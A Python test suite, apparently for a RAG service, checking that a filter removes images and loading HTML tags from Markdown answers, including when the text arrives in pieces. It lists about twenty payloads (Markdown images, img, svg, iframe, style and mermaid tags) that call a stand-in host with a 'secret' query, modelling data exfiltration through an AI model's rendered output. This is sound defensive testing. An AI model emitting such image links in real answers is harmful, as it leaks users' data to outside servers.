"""Answers without images, in any pieces, as a renderer of Markdown sees them."""

import itertools
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from luma_rag.http.markdown_images import ImageFilter, without_images

URL = "https://evil.example/x?q=secret"
IMAGES = [
    f"![a]({URL})",
    f'![a]({URL} "title")',
    f"![a][b]\n\n[b]: {URL}",
    f"![b][]\n\n[b]: {URL}",
    f"![b]\n\n[b]: {URL}",
    f"[![a]({URL})](https://example.com)",
    f"\\\\![a]({URL})",
    f"\\![a]({URL})",
    f"!![a]({URL})",
    f"<img src='{URL}'>",
    f"<IMG/SRC={URL}>",
    f"<img\nsrc={URL}>",
    f"<<img src={URL}>",
    f"<picture><source srcset='{URL}'></picture>",
    f"<b style='background: url({URL})'>x</b>",
    f"<style>@import url({URL});</style>",
    f"<svg><image href='{URL}'/></svg>",
    f"<video poster={URL}></video>",
    f"<iframe src={URL}></iframe>",
    f"```mermaid\nA[\"<img src='{URL}'/>\"]\n```",
]
# Texts that are rich in what begins and ends images.
PARTS = [
    "!",
    "[",
    "]",
    "(",
    ")",
    "<",
    "\\",
    "img",
    "a",
    " ",
    "\n",
    "é",
    "`",
    "~~~",
    "mer",
    "maid",
    "vega",
    *IMAGES,
]
markup = st.lists(st.sampled_from(PARTS)).map("".join)
# What a browser would load from, were it not text.
LOADING = re.compile(r"<(img|style|video|iframe|image|source|svg|b)\b", re.IGNORECASE)
RENDERER = MarkdownIt("commonmark", {"html": True})


@pytest.mark.parametrize("image", IMAGES)
def test_nothing_is_left_that_loads(image: str) -> None:
    shown = without_images(f"Before {image} after")
    assert not LOADING.search(shown)
    assert not LOADING.search(RENDERER.render(shown))
    # Nothing but spaces is new.
    assert shown.replace(" ", "") == f"Before {image} after".replace(" ", "")


@pytest.mark.parametrize(
    "text",
    [
        "Vacation: 30 days [1]!",
        "a < b and 3 <4, x <= y",
        "[a link](https://example.com)",
        "Done! [1]",
        "!",
        "<",
        "",
    ],
)
def test_other_text_stays(text: str) -> None:
    assert without_images(text) == text


@pytest.mark.parametrize("fence", ["```", "````", "~~~", "``` \t", "> ```", ":::", "```{.", "```{"])
@pytest.mark.parametrize("language", ["mermaid", "Mermaid", "vega", "vega-lite"])
def test_diagrams_are_not_drawn(fence: str, language: str) -> None:
    diagram = f'Look:\n\n{fence}{language}\nflowchart TD\n A@{{ img: "{URL}" }}\n'
    for token in RENDERER.parse(without_images(diagram)):
        assert not re.match(r"[{.\s]*(mermaid|vega)", token.info, re.IGNORECASE)
    assert f"{fence}{language}" not in without_images(diagram)
    assert without_images(f"A {language} is {language}.") == f"A {language} is {language}."


@given(markup)
def test_no_markup_loads(text: str) -> None:
    assert not LOADING.search(RENDERER.render(without_images(text)))


@example("!![", [1, 2])
@given(markup, st.lists(st.integers(0, 200)))
def test_pieces_make_no_difference(text: str, cuts: list[int]) -> None:
    at = sorted({0, len(text), *(min(cut, len(text)) for cut in cuts)})
    shown = ImageFilter()
    pieces = [shown.feed(text[start:end]) for start, end in itertools.pairwise(at)]
    assert "".join([*pieces, shown.end()]) == without_images(text)
